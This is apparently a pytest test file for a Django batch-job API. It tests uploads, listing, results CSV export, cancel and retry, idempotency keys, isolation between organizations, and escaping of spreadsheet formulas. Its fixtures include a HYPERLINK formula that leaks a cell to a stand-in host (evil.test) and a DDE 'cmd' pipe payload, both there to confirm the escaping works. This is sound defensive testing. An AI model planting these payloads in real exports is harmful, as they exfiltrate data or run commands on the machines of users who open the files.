"""Batch jobs through the API: end to end, list, detail, items, results.csv, cancel, retry;
idempotency; the two-organization checks; formula escaping."""

import csv
import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from rcm.context import org_context
from tests.conftest import wait_for
from tests.workflows.engine_helpers import published, published_transform
from workflows.models import BatchJob, BatchJobItem
from workflows.selectors.batch import batch_job_progress
from workflows.serializers.batch import csv_cell

URL = "/api/v2/batch-jobs/"
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
PIPE_COMMAND = "+cmd|' /C calc'!A0"


def _create(client, workflow, rows, key=None, **fields):
    headers = {"HTTP_IDEMPOTENCY_KEY": key} if key else {}
    body = {"workflow": str(workflow.pk), "rows": rows, **fields}
    return client.post(URL, body, "json", **headers)


def _job(client, org_workflow, rows=None, **fields) -> dict:
    response = _create(client, org_workflow, rows or [{"n": "1"}, {"n": "2"}], **fields)
    assert response.status_code == 201, response.json()
    return response.json()


def _results(client, job_id, accept: str = "*/*") -> list[list[str]]:
    response = client.get(f"{URL}{job_id}/results.csv", HTTP_ACCEPT=accept)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


# -- end to end -------------------------------------------------------------------------------


@pytest.mark.celery_worker
def test_json_rows_run_to_completion_and_results_escape_formulas(celery_worker, api, org_a):
    workflow, _ = published_transform(
        org_a.id,
        {"echo": "{{ input.name }}", "greeting": "hi"},
        required_data=["member_id", "name"],
    )
    client = api(org_a, "operator")
    rows = [
        {"member_id": "W1", "name": HYPERLINK, "status": "x"},
        {"member_id": "W2", "name": PIPE_COMMAND},
        {"member_id": "W3", "name": "-5"},
        {"member_id": "W4", "name": "José"},
    ]
    job = _job(client, workflow, rows, prompt="demo", max_concurrency=2)
    done = wait_for(
        lambda: (body := client.get(f"{URL}{job['id']}/").json())["completed_at"] and body,
        timeout=60,
    )
    assert done["status"] == "completed" and done["successful_rows"] == 4
    assert done["progress"]["percent_done"] == 100.0 and done["progress"]["eta_seconds"] == 0
    items = client.get(f"{URL}{job['id']}/items/").json()["results"]
    assert items[0]["output"] == {"echo": HYPERLINK, "greeting": "hi"}
    table = _results(client, job["id"])
    assert table[0] == [
        "row_number",
        "member_id",
        "name",
        "input.status",
        "echo",
        "greeting",
        "status",
        "error",
    ]
    assert table[1] == ["1", "W1", "'" + HYPERLINK, "x", "'" + HYPERLINK, "hi", "completed", ""]
    assert table[2][2] == table[2][4] == "'" + PIPE_COMMAND
    assert table[3][2] == "-5"  # a plain number is not a formula
    assert table[4][2] == "José"


# -- the two-organization checks ---------------------------------------------------------------


@pytest.fixture
def job_b(api, org_b) -> dict:
    workflow_b, _ = published(org_b.id, "start>done")
    return _job(api(org_b, "operator"), workflow_b)


@pytest.mark.django_db
def test_another_organizations_job_is_404_everywhere_and_unlisted(api, org_a, org_b, job_b):
    client = api(org_a, "org_admin")
    job_id = job_b["id"]
    for url in (f"{URL}{job_id}/", f"{URL}{job_id}/items/", f"{URL}{job_id}/results.csv"):
        assert client.get(url).status_code == 404, url
    for url in (f"{URL}{job_id}/cancel/", f"{URL}{job_id}/retry-failed/"):
        assert client.post(url).status_code == 404, url
    assert client.get(URL).json()["results"] == []
    with org_context(org_b.id):
        assert BatchJob.objects.get(pk=job_id).status_id == "pending"


@pytest.mark.django_db
@pytest.mark.parametrize("accept", ["text/csv", "application/json", "text/csv, */*;q=0.1"])
def test_results_csv_answers_a_client_that_asks_for_csv(api, org_a, org_b, job_b, accept):
    client = api(org_a, "operator")
    workflow, _ = published(org_a.id, "start>done", required_data=["n"])
    job = _job(client, workflow)
    assert _results(client, job["id"], accept) == [
        ["row_number", "n", "status", "error"],
        ["1", "1", "pending", ""],
        ["2", "2", "pending", ""],
    ]
    # An error is the one JSON error shape, whatever the client asked for.
    missing = client.get(f"{URL}{job_b['id']}/results.csv", HTTP_ACCEPT=accept)
    assert missing.status_code == 404 and missing["Content-Type"] == "application/json"
    assert missing.json()["error"]["code"] == "not_found"


@pytest.mark.django_db
def test_an_upload_to_another_organizations_workflow_is_404(api, org_a, org_b):
    workflow_b, _ = published(org_b.id, "start>done")
    client = api(org_a, "operator")
    assert _create(client, workflow_b, [{"a": "1"}]).status_code == 404
    upload = SimpleUploadedFile("rows.csv", b"a\n1\n")
    body = {"workflow": str(workflow_b.pk), "file": upload}
    assert client.post(URL, body, format="multipart").status_code == 404
    with org_context(org_b.id):
        assert not BatchJob.objects.exists()


@pytest.mark.django_db
def test_anonymous_is_401_and_viewers_read_but_do_not_write(api, anon, org_a):
    workflow, _ = published(org_a.id, "start>done")
    job = _job(api(org_a, "operator"), workflow)
    urls = (URL, f"{URL}{job['id']}/", f"{URL}{job['id']}/items/", f"{URL}{job['id']}/results.csv")
    for url in urls:
        assert anon.get(url).status_code == 401, url
        assert api(org_a, "viewer").get(url).status_code == 200, url
    viewer = api(org_a, "viewer")
    assert _create(viewer, workflow, [{"a": "1"}]).status_code == 403
    assert anon.post(URL, {}, "json").status_code == 401
    for action in ("cancel", "retry-failed"):
        assert viewer.post(f"{URL}{job['id']}/{action}/").status_code == 403
        assert anon.post(f"{URL}{job['id']}/{action}/").status_code == 401
    with org_context(org_a.id):
        assert BatchJob.objects.count() == 1


# -- idempotency --------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_same_idempotency_key_and_body_give_the_same_job(api, org_a):
    workflow, _ = published(org_a.id, "start>done")
    client = api(org_a, "operator")
    first = _create(client, workflow, [{"a": "1"}], key="upload-7")
    again = _create(client, workflow, [{"a": "1"}], key="upload-7")
    assert first.status_code == again.status_code == 201
    assert first.json()["id"] == again.json()["id"]
    assert again["Idempotent-Replayed"] == "true"
    changed = _create(client, workflow, [{"a": "2"}], key="upload-7")
    assert changed.status_code == 422
    assert changed.json()["error"]["code"] == "idempotency_key_reused"
    with org_context(org_a.id):
        assert BatchJob.objects.count() == 1


@pytest.mark.django_db
def test_the_same_idempotency_key_and_file_give_the_same_job(api, org_a):
    workflow, _ = published(org_a.id, "start>done")
    client = api(org_a, "operator")

    def upload():
        body = {"workflow": str(workflow.pk), "file": SimpleUploadedFile("r.csv", b"a\n1\n2\n")}
        return client.post(URL, body, format="multipart", HTTP_IDEMPOTENCY_KEY="file-1")

    assert upload().json()["id"] == upload().json()["id"]
    with org_context(org_a.id):
        assert BatchJob.objects.count() == 1 and BatchJobItem.objects.count() == 2


@pytest.mark.django_db
def test_a_refused_upload_leaves_its_idempotency_key_free(api, org_a):
    workflow, _ = published(org_a.id, "start>done", required_data=["a"])
    client = api(org_a, "operator")
    refused = _create(client, workflow, [{"b": "1"}], key="k-1")
    assert refused.status_code == 400
    retried = _create(client, workflow, [{"b": "1"}], key="k-1")
    assert retried.status_code == 400 and retried.json()["error"]["code"] == "invalid_rows"


# -- list, detail, items ------------------------------------------------------------------------


@pytest.mark.django_db
def test_list_filters_by_status_workflow_and_creation_time(api, org_a):
    first_workflow, _ = published(org_a.id, "start>done")
    second_workflow, _ = published(org_a.id, "start>done", required_data=["a"])
    client = api(org_a, "operator")
    pending = _job(client, first_workflow)
    failed = _job(client, second_workflow, [{"b": "1"}], on_invalid="skip")
    assert failed["status"] == "failed"

    def ids(**params):
        response = client.get(URL, params)
        assert response.status_code == 200, response.json()
        return [job["id"] for job in response.json()["results"]]

    assert ids() == [failed["id"], pending["id"]]
    assert ids(status="failed") == [failed["id"]]
    assert ids(workflow=str(first_workflow.pk)) == [pending["id"]]
    assert ids(since=failed["created_at"]) == [failed["id"]]
    assert ids(until=failed["created_at"]) == [pending["id"]]
    for params, field in (({"status": "exploded"}, "status"), ({"since": "May"}, "since")):
        bad = client.get(URL, params)
        assert bad.status_code == 400 and set(bad.json()["error"]["details"]) == {field}


@pytest.mark.django_db
def test_items_page_by_cursor_in_row_order_and_filter_by_status(api, org_a):
    workflow, _ = published(org_a.id, "start>done", required_data=["a"])
    client = api(org_a, "viewer")
    rows = [{"a": str(n)} if n % 3 else {"b": str(n)} for n in range(1, 8)]
    job = _job(api(org_a, "operator"), workflow, rows, on_invalid="skip")
    seen, url = [], f"{URL}{job['id']}/items/?page_size=3"
    while url:
        page = client.get(url).json()
        seen += [item["row_number"] for item in page["results"]]
        url = page["next"]
    assert seen == [1, 2, 3, 4, 5, 6, 7]
    failed = client.get(f"{URL}{job['id']}/items/", {"status": "failed"}).json()["results"]
    assert [(item["row_number"], item["error"]) for item in failed] == [
        (3, "A is required."),
        (6, "A is required."),
    ]
    assert failed[0]["input"] == {"b": "3"} and failed[0]["attempts"] == 0
    bad = client.get(f"{URL}{job['id']}/items/", {"status": "lost"})
    assert bad.status_code == 400


@pytest.mark.django_db
def test_detail_shows_counters_and_progress(api, org_a):
    workflow, _ = published(org_a.id, "start>done")
    client = api(org_a, "viewer")
    job = _job(api(org_a, "operator"), workflow)
    detail = client.get(f"{URL}{job['id']}/").json()
    assert (detail["total_rows"], detail["pending_rows"], detail["processed_rows"]) == (2, 2, 0)
    assert detail["progress"] == {
        "percent_done": 0.0,
        "rows_per_second": None,
        "eta_seconds": None,
        "estimated_completion_at": None,
    }


def test_progress_is_speed_since_the_start_and_time_to_go():
    now = dt.datetime(2025, 3, 1, 12, 0, tzinfo=dt.UTC)
    job = BatchJob(
        total_rows=1000,
        pending_rows=550,
        running_rows=50,
        successful_rows=390,
        failed_rows=10,
        processed_rows=400,
        started_at=now - dt.timedelta(seconds=200),
        speed_since=now - dt.timedelta(seconds=200),
    )
    progress = batch_job_progress(job=job, now=now)
    assert (progress.percent_done, progress.rows_per_second, progress.eta_seconds) == (40.0, 2, 300)
    assert progress.estimated_completion_at == now + dt.timedelta(seconds=300)
    # Rows processed before the speed's start (refused at upload, or run before a retry) are
    # not speed: 300 rows ran in the 200 s.
    job.speed_base_rows = 100
    assert batch_job_progress(job=job, now=now).rows_per_second == 1.5
    # Just retried, not fed yet: no speed (the idle time before the retry is none).
    job.speed_since = None
    assert batch_job_progress(job=job, now=now).rows_per_second is None
    job.speed_since, job.speed_base_rows = now - dt.timedelta(seconds=200), 0
    job.completed_at, job.pending_rows, job.running_rows, job.processed_rows = now, 0, 0, 1000
    finished = batch_job_progress(job=job, now=now + dt.timedelta(hours=1))
    assert (finished.percent_done, finished.rows_per_second, finished.eta_seconds) == (100, 5, 0)


# -- results, cancel, retry ---------------------------------------------------------------------


@pytest.mark.django_db
def test_results_stream_after_the_request_context_is_gone(api, org_a):
    workflow, _ = published(org_a.id, "start>done", required_data=["member_id"])
    client = api(org_a, "viewer")
    rows = [{"member_id": f"W{n}", "plan": ["a", "b"]} for n in range(1, 4502)]
    rows[1] = {"plan": "=1+1", "@x": "y"}
    job = _job(api(org_a, "operator"), workflow, rows, on_invalid="skip")
    table = _results(client, job["id"])
    assert table[0] == ["row_number", "member_id", "'@x", "plan", "status", "error"]
    assert len(table) == 4502  # more rows than one chunk of the keyset walk
    assert table[1] == ["1", "W1", "", "a|b", "pending", ""]
    assert table[2] == ["2", "", "y", "'=1+1", "failed", "Member ID is required."]
    assert table[-1][:2] == ["4501", "W4501"]


@pytest.mark.django_db
def test_cancel_then_retry_is_refused_and_a_second_cancel_is_409(api, org_a):
    workflow, _ = published(org_a.id, "start>done")
    client = api(org_a, "operator")
    job = _job(client, workflow)
    cancelled = client.post(f"{URL}{job['id']}/cancel/")
    assert cancelled.status_code == 200, cancelled.json()
    assert cancelled.json()["status"] == "cancelled" and cancelled.json()["cancelled_rows"] == 2
    assert client.post(f"{URL}{job['id']}/cancel/").status_code == 409
    assert client.post(f"{URL}{job['id']}/retry-failed/").status_code == 409


@pytest.mark.django_db
def test_retry_failed_puts_failed_rows_back_to_pending(api, org_a):
    workflow, _ = published(org_a.id, "start>done")
    client = api(org_a, "operator")
    job = _job(client, workflow, [{"a": "1"}])
    with org_context(org_a.id):
        BatchJobItem.objects.filter(batch_job_id=job["id"]).update(status="failed", attempts=1)
        BatchJob.objects.filter(pk=job["id"]).update(
            pending_rows=0, failed_rows=1, processed_rows=1, status_id="failed"
        )
    retried = client.post(f"{URL}{job['id']}/retry-failed/")
    assert retried.status_code == 202, retried.json()
    assert (retried.json()["status"], retried.json()["pending_rows"]) == ("processing", 1)
    with org_context(org_a.id):
        speed = BatchJob.objects.values_list("speed_since", "speed_base_rows").get(pk=job["id"])
    assert speed == (None, 0)  # the speed starts again at the next feed, from the rows left
    nothing = client.post(f"{URL}{job['id']}/retry-failed/")
    assert nothing.status_code == 409
    assert nothing.json()["error"]["code"] == "nothing_to_retry"


@pytest.mark.django_db
def test_rows_that_failed_the_upload_check_are_not_retried(api, org_a):
    workflow, _ = published(org_a.id, "start>done", required_data=["member_id"])
    client = api(org_a, "operator")
    body = {"workflow": str(workflow.pk), "rows": [{"member_id": ""}], "on_invalid": "skip"}
    job = client.post(URL, body, "json").json()
    assert job["failed_rows"] == 1
    response = client.post(f"{URL}{job['id']}/retry-failed/")
    assert response.status_code == 409
    assert response.json()["error"]["code"] == "nothing_to_retry"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+1.5e3", "+1.5e3"),
        (-5, "-5"),
        ("W-1", "W-1"),
        (None, ""),
        (True, "true"),
        (["=a", "b"], "'=a|b"),
        ({"k": "v"}, '{"k": "v"}'),
    ],
)
def test_cells_a_spreadsheet_would_execute_are_escaped(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.django_db
def test_the_same_upload_resent_with_another_boundary_is_the_same_job(api, org_a):
    from django.test.client import encode_multipart

    workflow, _ = published(org_a.id, "start>done", required_data=["member_id"])
    client = api(org_a, "operator")
    ids = []
    for boundary in ("BoundaryOne", "AnotherBoundary"):
        upload = io.BytesIO(b"member_id\nW1\nW2\n")
        upload.name = "rows.csv"
        body = encode_multipart(boundary, {"workflow": str(workflow.pk), "file": upload})
        response = client.generic(
            "POST",
            URL,
            body,
            content_type=f"multipart/form-data; boundary={boundary}",
            HTTP_IDEMPOTENCY_KEY="upload-1",
        )
        assert response.status_code == 201, response.json()
        ids.append(response.json()["id"])
    assert ids[0] == ids[1]
    with org_context(org_a.id):
        assert BatchJob.objects.count() == 1
